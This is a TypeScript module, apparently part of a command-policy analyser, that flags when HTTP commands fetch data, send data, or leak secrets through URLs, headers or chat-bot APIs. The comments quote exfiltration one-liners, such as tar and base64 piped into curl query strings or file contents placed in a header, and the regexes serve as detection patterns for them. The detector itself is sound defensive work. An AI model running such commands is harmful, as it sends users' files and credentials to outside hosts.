// What all HTTP programs share: they fetch, they send, and an address can carry a secret.
import { in_turn } from '#core/compose.ts'
import { type Call, prints, reach, reach_address, touch, value } from '#core/policy/effects/call.ts'
import { set_field } from '#core/policy/effects/collector.ts'
import { type Address, address_of, is_near } from '#core/policy/effects/host/address.ts'
import { UNKNOWN } from '#core/policy/effects/place/path.ts'
import { fan_of } from '#core/policy/effects/specs/machine/fed.ts'
import { is_misdirected, is_own_key, is_secret_variable } from '#core/policy/effects/specs/network/payload.ts'
import type { Word } from '#core/policy/parse/tree.ts'

/** Methods that carry something to the other side, or change something there. */
export const SENDING_METHOD = /^(?:POST|PUT|PATCH|DELETE|MKCOL|PROPPATCH|LOCK|UPLOAD)$/i

/** A download; to standard output it can feed an interpreter. */
export function fetches(call: Call, word: Word, fields: Record<string, string | boolean | string[]>): void {
  reach(call, 'net.fetch', word, fields)
  if (fields.to_file !== true && fields.method !== 'HEAD') prints(call, 'net')
  leaks_in_url(call, word)
  // `tar c src | base64 | xargs -I{} curl "https://host/?d={}"`: files leave in addresses.
  if (call.command.open_args && ENCODES.test(fan_of(call) ?? ''))
    reach(call, 'net.send', word, { method: 'GET', source: 'stdin', with_data: true })
}

const ENCODES = /(?:^|\| )(?:tar|base64|base32|xxd|od|hexdump|gzip|openssl)\s/

/** Services by which a bot writes to whoever made it. */
const CHAT_API = /^(?:api\.telegram\.org|discord(?:app)?\.com)$/

/** Output of commands that say what is on this machine. */
const TELLS_ABOUT_HOST =
  /\$\((?:cat|env|printenv|base64|tar|ls|whoami|hostname|id|uname|ifconfig|ip|history|xxd|head|tail)\b|`(?:cat|env|base64|whoami|hostname|id|uname)\b/

/** Something goes out; the answer still comes back on standard output. */
export function sends_to(
  call: Call,
  word: Word,
  address: Address | null,
  fields: Record<string, string | boolean | string[]>,
  data: readonly Word[],
): void {
  const kind = address?.kind ?? 'unknown'
  const catcher = kind === 'paste' || kind === 'capture' || CHAT_API.test(address?.host ?? '')
  const secret = data.some((one) => {
    const raw = call.source.slice(one.span[0], one.span[1])
    return is_secret_variable(raw, one) || (catcher && one.cert !== 'literal' && TELLS_ABOUT_HOST.test(raw))
  })
  const draft =
    address === null
      ? reach(call, 'net.send', word, fields)
      : reach_address(call, 'net.send', address, fields, word.cert, word.span)
  if (draft !== null && secret && !is_near(address?.kind ?? 'unknown') && address?.kind !== 'known')
    set_field(draft, 'secret_variable', true)
  if (fields.to_file !== true) prints(call, 'net')
  leaks_in_url(call, word)
}

/** `-H "X-Data: $(cat notes | base64)"`: what files hold, in a header that is not for keys and marks of versions. */
const TELLS_IN_HEADER = in_turn(
  /^(?:--header=)?["']?/i,
  /(?!(?:(?:proxy-)?authorization|cookie|if-[\w-]{1,30}|etag|[\w-]{0,30}(?:key|token|auth|signature|hash|digest|version))\s?:)/i,
  /[\w-]{1,60}\s?:[^$`]{0,200}(?:\$\(|`)(?:cat|env|printenv|base64|tar|history|xxd|head|tail)\b/i,
)

/** `-H "X: $GITHUB_TOKEN"` to a host that is none of GitHub's. */
export function misdirects(call: Call, url: Word, address: Address | null, carried: readonly Word[]): void {
  if (carried.length === 0 || address === null || is_near(address.kind)) return
  const raw = (word: Word) => call.source.slice(word.span[0], word.span[1])
  const strange = address.kind !== 'known' && address.kind !== 'registry'
  const tells = (word: Word) => strange && word.cert !== 'literal' && TELLS_IN_HEADER.test(raw(word))
  if (carried.some((word) => is_misdirected(raw(word), word, address.host) || tells(word)))
    reach(call, 'net.send', url, { method: 'GET', source: 'inline', secret_variable: true })
}

/** `https://host/?k=$TOKEN`: a secret in the address itself. */
function leaks_in_url(call: Call, word: Word): void {
  if (word.cert === 'literal') return
  const raw = call.source.slice(word.span[0], word.span[1])
  if (
    !is_secret_variable(raw, word) &&
    !/\$\((?:env|printenv|cat|base64|gh auth|aws|security|pass|whoami|pwd|hostname|id|uname|ifconfig|ip|ls|history)\b|`(?:env|cat|base64|whoami|hostname|id|uname)/.test(
      raw,
    )
  )
    return
  const address = address_of(first_part(word.text))
  const kind = address?.kind ?? 'unknown'
  if (is_own_key(raw, address?.host ?? '')) return
  if (!is_near(kind) && kind !== 'known' && kind !== 'registry')
    reach(call, 'net.send', word, { method: 'GET', source: 'inline', secret_variable: true })
}

/** An address up to the first part that only the run decides. */
export function first_part(text: string): string {
  return text.split(UNKNOWN, 1)[0] ?? ''
}

/** The name under which a download is stored when none is given. */
export function base_name(url: string): string {
  return /\/([^/?#]+)(?:[?#].*)?$/s.exec(url.replace(/^[a-z]+:\/\/[^/]*/i, ''))?.[1] ?? 'index.html'
}

/** A file name in the folder that downloads go to, when there is one. */
export function placed(call: Call, word: Word): Word {
  const folder = value(call, 'folder')
  return folder === null || /^[~/]/.test(word.text) ? word : { ...word, text: `${folder.text}/${word.text}` }
}

/** Writes the file that a download is named after. */
export function downloads(call: Call, word: Word): void {
  const named: Word = { ...word, text: base_name(word.text), cert: 'literal' }
  touch(call, 'fs.write', placed(call, named), { mode: 'truncate', downloaded: true })
}
